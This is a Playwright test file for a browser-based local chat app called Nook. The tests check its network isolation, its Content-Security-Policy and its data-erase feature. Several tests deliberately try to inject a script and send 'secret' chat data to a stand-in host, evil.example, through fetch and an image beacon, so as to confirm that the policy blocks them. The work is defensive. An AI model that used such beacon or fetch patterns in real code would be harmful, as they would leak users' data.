import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { ChatPage } from './pages/ChatPage';
import { serveModelHostsFrom, startEmptyServer } from './localServer';
import { ModelsPage } from './pages/ModelsPage';
import { MODEL_HOSTS, recordRequests, strayRequests } from './requests';
import { fakeWebLLMDownload } from './webllmCache.mjs';

declare global {
  interface Window {
    __injected?: unknown;
  }
}

const APP_DATABASES = ['nook', 'nook-documents', 'webllm/model', 'webllm/config', 'webllm/wasm'];

const databaseNames = (page: Page) =>
  page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name ?? ''));

test.describe('with the service worker running', () => {
  test.use({ serviceWorkers: 'allow' });

  test('a session that loads a model and chats talks to nothing but Nook itself', async ({
    baseURL,
    chat,
    context,
    page,
  }) => {
    const requests = recordRequests(context);
    await chat.open({ scripted_load_ms: 300, scripted_reply: 'Nothing leaves.' });
    // The service worker installs and caches the app shell (36 MB, engines and OCR included): its
    // requests are in the log too. Waited for first: on a busy 2-core machine its precaching once
    // starved a load meant to take 0.3 s past the 15 s a step may take.
    await page.evaluate(async () => {
      await navigator.serviceWorker.ready;
    });
    await chat.sendAndWait('Hello');
    await expect(chat.content(chat.lastReply())).toHaveText('Nothing leaves.');
    await expect
      .poll(() => requests.some((url) => url.includes('/assets/engine.worker-')))
      .toBe(true);
    await chat.letSave();

    expect(requests.length).toBeGreaterThan(5);
    expect(requests.filter((url) => !url.startsWith(`${baseURL}/`))).toEqual([]);
  });
});

test('a real WebLLM model load asks only the model hosts, and the engine is held to the policy', async ({
  baseURL,
  chat,
  context,
  page,
}) => {
  const server = await startEmptyServer();
  await serveModelHostsFrom(context, server);
  const requests = recordRequests(context);
  try {
    await chat.open({ engine: 'webllm' });
    await chat.send('Hello');
    await expect(page.getByRole('alert')).toContainText('answered 404');

    const toModelHosts = requests.filter((url) => MODEL_HOSTS.test(url));
    expect(toModelHosts).toContain(
      'https://huggingface.co/mlc-ai/Llama-3.2-1B-Instruct-q4f32_1-MLC/resolve/main/mlc-chat-config.json',
    );
    expect(strayRequests(requests, baseURL!)).toEqual([]);

    // The engine worker does the downloading, and a <meta> policy does not reach workers: the
    // policy comes with the worker's script as a header. A host outside it is refused by the
    // browser before any request is made (the route below would otherwise answer it).
    const served = await page.request.get('/');
    expect(
      served.headers()['content-security-policy'],
      'the server sends the policy as a header (a preview server started before vite.config.ts set it must be restarted)',
    ).toContain("connect-src 'self'");
    const evil: string[] = [];
    await context.route('https://evil.example/**', async (route) => {
      evil.push(route.request().url());
      await route.fulfill({
        status: 200,
        body: 'ok',
        headers: { 'access-control-allow-origin': '*' },
      });
    });
    const engine = page.workers().find((w) => w.url().includes('engine.worker'));
    expect(engine).toBeDefined();
    const outcome = await engine!.evaluate(() =>
      fetch('https://evil.example/collect').then(
        () => 'fetched',
        () => 'refused',
      ),
    );
    expect(outcome).toBe('refused');
    expect(evil).toEqual([]);
  } finally {
    await server.close();
  }
});

test('the Content-Security-Policy stops injected scripts, images and connections', async ({
  chat,
  context,
  page,
}) => {
  const evil: string[] = [];
  await context.route('https://evil.example/**', async (route) => {
    evil.push(route.request().url());
    await route.fulfill({ status: 200, body: '', headers: { 'access-control-allow-origin': '*' } });
  });
  await chat.open({ scripted_load_ms: 0 });

  const result = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
    const script = document.createElement('script');
    script.textContent = 'window.__injected = 1';
    document.body.append(script);
    const image = document.createElement('img');
    image.src = 'https://evil.example/pixel.png?chat=secret';
    document.body.append(image);
    const fetched = await fetch('https://evil.example/collect', { method: 'POST', body: 'secret' })
      .then(() => 'fetched')
      .catch(() => 'refused');
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { injected: window.__injected, fetched, violations };
  });

  expect(result.injected).toBeUndefined();
  expect(result.fetched).toBe('refused');
  expect(result.violations).toEqual(
    expect.arrayContaining([
      'script-src-elem inline',
      'img-src https://evil.example/pixel.png?chat=secret',
      'connect-src https://evil.example/collect',
    ]),
  );
  expect(evil).toEqual([]);
});

test('the privacy note says where data lives and what goes over the network', async ({
  chat,
  page,
}) => {
  await chat.open({ scripted_load_ms: 0 });
  await (await chat.menuItem('Privacy')).click();
  const dialog = page.getByRole('dialog', { name: 'Privacy' });
  await expect(dialog).toBeVisible();
  await expect(dialog).toContainText('IndexedDB');
  await expect(dialog).toContainText('Cache Storage');
  await expect(dialog).toContainText('Only model downloads');
  // The hosts it names are the ones the policy in force allows.
  await expect(dialog).toContainText('huggingface.co');
  await expect(dialog).toContainText('raw.githubusercontent.com');
  // The first click only asks.
  await dialog.getByRole('button', { name: 'Erase all data' }).click();
  await expect(dialog.getByRole('button', { name: 'Yes, erase everything' })).toBeVisible();
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await expect(dialog.getByRole('button', { name: 'Yes, erase everything' })).toBeHidden();
  await dialog.getByRole('button', { name: 'Close' }).click();
  await expect(dialog).toBeHidden();
});

async function eraseAllData(page: Page): Promise<void> {
  await (await new ChatPage(page).menuItem('Privacy')).click();
  const dialog = page.getByRole('dialog', { name: 'Privacy' });
  await dialog.getByRole('button', { name: 'Erase all data' }).click();
  await dialog.getByRole('button', { name: 'Yes, erase everything' }).click();
}

const ERASED = 'Everything Nook kept on this device is erased';

test('"Erase all data" removes chats, settings, models, caches and web storage', async ({
  chat,
  page,
}) => {
  await chat.open({ scripted_load_ms: 0, scripted_reply: 'Remember me.' });
  await chat.sendAndWait('A secret worth erasing');
  await expect(chat.chatTitles()).toContainText(['A secret worth erasing']);
  // A document's text is kept in a database of its own.
  await page.getByLabel('Attach document').setInputFiles('e2e/fixtures/documents/notes.md');
  await expect(
    page.getByRole('region', { name: 'Documents' }).getByRole('region', { name: 'notes.md' }),
  ).toBeVisible();
  await chat.letSave();
  await page.evaluate(async () => {
    localStorage.setItem('custom', 'data');
    sessionStorage.setItem('custom', 'data');
    const cache = await caches.open('nook-test');
    await cache.put('/cached', new Response('cached'));
  });
  // Half a model download, in WebLLM's own cache; the manager sees it.
  await fakeWebLLMDownload(page, 'Llama-3.2-1B-Instruct-q4f32_1-MLC', {
    shards: 2,
    shardBytes: 2 ** 20,
    present: [0],
  });
  const models = new ModelsPage(page);
  await models.open();
  await expect(models.row('Llama-3.2-1B-Instruct-q4f32_1-MLC')).toContainText('Partly downloaded');
  await expect
    .poll(() => databaseNames(page))
    .toEqual(expect.arrayContaining(['nook', 'nook-documents', 'webllm/model']));
  await models.close();

  await eraseAllData(page);

  // The page reloads into a screen that finishes the erase and writes nothing.
  await expect(page.getByRole('status').filter({ hasText: ERASED })).toBeVisible();
  expect(await databaseNames(page)).toEqual([]);
  expect(await page.evaluate(() => caches.keys())).toEqual([]);
  expect(await page.evaluate(() => localStorage.length + sessionStorage.length)).toBe(0);

  // Starting again is a first visit: no chats, and looking at what is downloaded creates nothing.
  await page.getByRole('button', { name: 'Start again' }).click();
  await chat.ready();
  await expect(chat.chatTitles()).toHaveText(['New chat']);
  await expect(chat.messages()).toHaveCount(0);
  for (const name of APP_DATABASES.filter((n) => n !== 'nook')) {
    expect(await databaseNames(page)).not.toContain(name);
  }
});

test('erasing in one tab stops the other tabs from writing the data back', async ({
  chat,
  context,
  page,
}) => {
  await chat.open({ scripted_load_ms: 0, scripted_reply: 'Still here?' });
  await chat.sendAndWait('Written in the first tab');
  await chat.letSave();
  const other = await context.newPage();
  await other.goto('/?scripted_load_ms=0');
  await expect(other.getByRole('navigation', { name: 'Chats' })).toContainText(
    'Written in the first tab',
  );

  await eraseAllData(page);

  await expect(page.getByRole('status').filter({ hasText: ERASED })).toBeVisible();
  await expect(other.getByRole('status').filter({ hasText: ERASED })).toBeVisible();
  // Give a write the other tab might still have had pending the time to land; none may.
  await other.waitForTimeout(1000);
  expect(await databaseNames(page)).toEqual([]);
});

test('the built app loads nothing from CDNs and reports to no analytics', () => {
  for (const dir of ['dist', 'dist-e2e']) {
    const files = readdirSync(dir, { recursive: true, encoding: 'utf8' }).filter((f) =>
      /\.(js|html|css|webmanifest)$/.test(f),
    );
    const text = files.map((f) => readFileSync(join(dir, f), 'utf8')).join('\n');
    const html = readFileSync(join(dir, 'index.html'), 'utf8');
    // Every script, stylesheet, icon and manifest comes from the app's own origin.
    expect(html).not.toMatch(/<(script|link)[^>]+(src|href)="(https?:)?\/\//);
    expect(html).toContain('http-equiv="Content-Security-Policy"');
    for (const tracker of [
      'google-analytics.com',
      'googletagmanager.com',
      'fonts.googleapis.com',
      'fonts.gstatic.com',
      'cdn.jsdelivr.net',
      'unpkg.com',
      'cdnjs.cloudflare.com',
      'plausible.io',
      'segment.io',
      'sentry.io',
      'posthog',
      'mixpanel',
    ]) {
      expect(text, `${dir} mentions ${tracker}`).not.toContain(tracker);
    }
    // The service worker caches the app shell only: no runtime caching of other origins.
    const sw = readFileSync(join(dir, 'sw.js'), 'utf8');
    expect(sw).not.toMatch(/CacheFirst|NetworkFirst|StaleWhileRevalidate|huggingface/);
    expect(sw).toMatch(/assets\/engine\.worker-[\w-]+\.js/);
  }
});
